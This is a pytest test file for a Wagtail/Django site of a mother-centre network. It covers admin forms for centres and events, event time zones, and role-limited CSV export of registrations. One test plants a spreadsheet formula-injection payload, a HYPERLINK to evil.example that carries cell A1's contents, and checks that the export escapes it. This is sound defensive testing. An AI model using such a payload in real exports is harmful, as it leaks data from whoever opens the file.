"""The editors' side: a centre and an event made by hand in the admin, event times typed in the
event's own time zone, and registrations seen and downloaded only by those who may."""

import csv
import datetime
import io
import zoneinfo

import pytest
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.urls import reverse
from wagtail.models import GroupPagePermission
from wagtail.test.utils.form_data import inline_formset, nested_form_data, rich_text, streamfield

from network import demo as network_demo
from network.factories import CentrePageFactory, CountryPageFactory, EventPageFactory
from network.models import CentrePage, EventPage, EventRegistration
from tests.network.conftest import soup_of

pytestmark = pytest.mark.django_db

BUDAPEST = zoneinfo.ZoneInfo("Europe/Budapest")


@pytest.fixture
def editor_client(client, django_user_model):
    user = django_user_model.objects.create_superuser("editor", "editor@example.org", "pw")
    client.force_login(user)
    return client


def page_form(**fields) -> dict:
    # Lists are several values of one field (checkboxes), not nested forms.
    lists = {name: fields.pop(name) for name in list(fields) if isinstance(fields[name], list)}
    return {**nested_form_data({"comments": inline_formset([]), **fields}), **lists}


def test_an_editor_adds_a_centre_in_the_admin(editor_client, slovakia):
    url = reverse("wagtailadmin_pages:add", args=("network", "centrepage", slovakia.pk))
    form = editor_client.get(url).content.decode()
    # The fields an editor may not know how to fill in explain themselves.
    assert "data-location-map" in form  # click the map to place the centre
    assert "/static/network/admin-location-map.js" in form
    for help_text in (
        "click the map below, or copy the first number from a map website",
        "Between -180 and 180.",
        "One line per day or group of days",
        "Tick the languages visitors can speak with the team.",
        "matches its rows to centres with it",
    ):
        assert help_text in form, help_text
    response = editor_client.post(
        url,
        page_form(
            title="Materské centrum Martin",
            slug="materske-centrum-martin",
            kind="mother_centre",
            description=rich_text("<p>Open every morning.</p>"),
            street_address="Námestie SNP 1",
            postcode="036 01",
            city="Martin",
            latitude="49.0665",
            longitude="18.9239",
            website="https://mc-martin.example.sk",
            email="",
            phone="",
            languages=["sk", "en"],
            opening_hours="Mon–Fri 9:00–12:00",
            member_since="2004",
            directory_key="",
            summary="",
            **{"action-publish": "publish"},
        ),
    )
    assert response.status_code == 302, soup_of(response).select(".error-message")
    centre = CentrePage.objects.get(slug="materske-centrum-martin")
    assert centre.live and centre.languages == ["sk", "en"]
    assert centre.directory_key == "materske-centrum-martin"  # made from the slug
    assert editor_client.get(centre.url).status_code == 200


def test_the_admin_refuses_half_a_location(editor_client, slovakia):
    url = reverse("wagtailadmin_pages:add", args=("network", "centrepage", slovakia.pk))
    response = editor_client.post(
        url,
        page_form(
            title="Half",
            slug="half",
            kind="mother_centre",
            description=rich_text(""),
            latitude="49.06",
            longitude="",
            languages=[],
            **{"action-publish": "publish"},
        ),
    )
    assert response.status_code == 200
    assert "Give both numbers (latitude and longitude), or neither." in response.content.decode()
    assert not CentrePage.objects.filter(slug="half").exists()


def event_form(**fields) -> dict:
    data = {
        "title": "MINE Academy in Budapest",
        "slug": "mine-academy",
        "kind": "mine_academy",
        "start": "2030-09-21 09:00",
        "end": "2030-09-26 13:00",
        "time_zone": "Europe/Budapest",
        "description": rich_text("<p>A week of learning.</p>"),
        "attendance": "in_person",
        "venue_name": "",
        "venue_address": "",
        "venue_city": "Budapest",
        "venue_country": "Hungary",
        "join_url": "",
        "join_details": "",
        "agenda": streamfield([("item", {"time": "", "topic": "Peer learning", "details": ""})]),
        "speakers": streamfield([]),
        "registration_type": "built_in",
        "registration_url": "",
        "capacity": "30",
        "recordings": streamfield([]),
        "summary": "",
        "action-publish": "publish",
    }
    data.update(fields)
    return page_form(**data)


def test_an_editor_adds_an_event_with_times_in_its_own_zone(editor_client, events_index):
    url = reverse("wagtailadmin_pages:add", args=("network", "eventpage", events_index.pk))
    form = soup_of(editor_client.get(url))
    zone = form.select_one("select[name=time_zone]")
    assert zone.select_one("option[selected]")["value"] == "Europe/Berlin"
    assert zone.find("option", value="Europe/Budapest")
    response = editor_client.post(url, event_form())
    assert response.status_code == 302, soup_of(response).select(".error-message")
    event = EventPage.objects.get(slug="mine-academy")
    # 09:00 in Budapest, whatever the editor's own zone (the site's is Europe/Berlin).
    assert event.start == datetime.datetime(2030, 9, 21, 9, 0, tzinfo=BUDAPEST)
    assert event.start.astimezone(datetime.UTC).hour == 7
    # Editing shows the times as they were typed.
    edit = soup_of(editor_client.get(reverse("wagtailadmin_pages:edit", args=(event.pk,))))
    assert edit.select_one("input[name=start]")["value"] == "2030-09-21 09:00"


def test_the_admin_refuses_an_event_that_ends_before_it_starts(editor_client, events_index):
    url = reverse("wagtailadmin_pages:add", args=("network", "eventpage", events_index.pk))
    response = editor_client.post(url, event_form(end="2030-09-20 13:00"))
    assert response.status_code == 200
    assert "The event cannot end before it starts." in response.content.decode()


@pytest.fixture
def registrations(events_index, slovakia):
    meeting = EventPageFactory(
        parent=events_index, title="Network meeting", registration_type="built_in"
    )
    national = EventPageFactory(
        parent=slovakia, title="Slovak meeting", registration_type="built_in"
    )
    for event, name, email in [
        (meeting, "Anna Nováková", "anna@example.org"),
        (meeting, "Ilse Huber", "ilse@example.org"),
        (national, "Jana Kováčová", "jana@example.org"),
    ]:
        EventRegistration.objects.create(
            event=event, name=name, email=email, country="Slovakia", consent=True
        )
    return meeting, national


def test_editors_download_an_events_registrations_as_csv(editor_client, registrations):
    meeting, _national = registrations
    edit = soup_of(editor_client.get(reverse("wagtailadmin_pages:edit", args=(meeting.pk,))))
    links = {a.get_text(strip=True): a["href"] for a in edit.select("a[href*=event_registrations]")}
    assert links["Registrations (2)"] == f"/admin/event_registrations/?event={meeting.pk}"
    link = {"href": links["Download registrations (CSV)"]}
    response = editor_client.get(link["href"])
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(row["Name"] for row in rows) == ["Anna Nováková", "Ilse Huber"]
    assert {row["E-mail"] for row in rows} == {"anna@example.org", "ilse@example.org"}
    assert len(rows[0]["Registered"]) == len("2030-06-04 16:00")  # local time, to the minute


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_never_hands_a_spreadsheet_a_formula(editor_client, registrations, start):
    meeting, _national = registrations
    EventRegistration.objects.filter(name="Anna Nováková").update(
        name=start + 'HYPERLINK("http://evil.example/?"&A1,"Click")',
        organisation="=1+1",
    )
    url = reverse("event_registrations:index") + f"?event={meeting.pk}&export=csv"
    text = b"".join(editor_client.get(url).streaming_content).decode()
    rows = {row["E-mail"]: row for row in csv.DictReader(io.StringIO(text))}
    anna = rows["anna@example.org"]
    assert anna["Name"] == "'" + start + 'HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert anna["Organisation"] == "'=1+1"
    assert rows["ilse@example.org"]["Name"] == "Ilse Huber"  # ordinary cells as they are


def test_country_editors_see_only_their_own_events_registrations(
    client, django_user_model, registrations, slovakia, germany
):
    call_command("setup_groups", stdout=io.StringIO())
    user = django_user_model.objects.create_user("jana", "jana@example.org", "pw")
    user.groups.add(Group.objects.get(name="Editors: Slovakia"))
    client.force_login(user)
    index = reverse("event_registrations:index")
    listing = soup_of(client.get(index)).select_one("table").get_text()
    assert "Jana Kováčová" in listing
    assert "Anna Nováková" not in listing and "Ilse Huber" not in listing
    other = EventRegistration.objects.get(email="anna@example.org")
    assert client.get(reverse("event_registrations:inspect", args=(other.pk,))).status_code == 404
    # No right to change registrations at all: Wagtail sends them back to the dashboard.
    denied = client.get(reverse("event_registrations:edit", args=(other.pk,)))
    assert denied.status_code == 302 and denied["Location"] == "/admin/"
    csv_text = b"".join(client.get(index + "?export=csv").streaming_content).decode()
    assert "jana@example.org" in csv_text and "anna@example.org" not in csv_text


def test_setup_groups_gives_each_country_its_own_section(client, network, slovakia, germany):
    out = io.StringIO()
    call_command("setup_groups", stdout=out)
    call_command("setup_groups", stdout=io.StringIO())  # a second run changes nothing
    assert "Groups are ready" in out.getvalue()
    assert {"Editors", "Moderators", "Translators", "Editors: Slovakia", "Editors: Germany"} <= set(
        Group.objects.values_list("name", flat=True)
    )
    slovak_editors = Group.objects.get(name="Editors: Slovakia")
    pages = set(
        GroupPagePermission.objects.filter(group=slovak_editors).values_list("page_id", flat=True)
    )
    assert pages == {slovakia.pk}
    assert GroupPagePermission.objects.filter(group=slovak_editors).count() == 5  # no duplicates

    centre_in_germany = CentrePageFactory(parent=germany, title="Mütterzentrum Ulm")
    centre_in_slovakia = CentrePageFactory(parent=slovakia, title="MC Martin")
    from django.contrib.auth import get_user_model

    jana = get_user_model().objects.create_user("jana", "jana@example.org", "pw")
    jana.groups.add(slovak_editors)
    assert centre_in_slovakia.permissions_for_user(jana).can_edit()
    assert centre_in_slovakia.permissions_for_user(jana).can_publish()
    assert slovakia.permissions_for_user(jana).can_add_subpage()
    assert not centre_in_germany.permissions_for_user(jana).can_edit()
    assert not network.permissions_for_user(jana).can_edit()
    assert jana.has_perm("wagtailadmin.access_admin")


def test_a_new_translation_of_a_country_gets_its_editors(network, slovakia):
    from cms.core.translation import translate_page

    call_command("setup_groups", stdout=io.StringIO())
    translate_page(network, "hu", {})
    hungarian = translate_page(slovakia, "hu", {"Slovakia": "Szlovákia"})
    group = Group.objects.get(name="Editors: Slovakia")
    assert GroupPagePermission.objects.filter(group=group, page=hungarian).count() == 5
    assert network_demo.CountryPageFactory is CountryPageFactory  # the demo's countries too
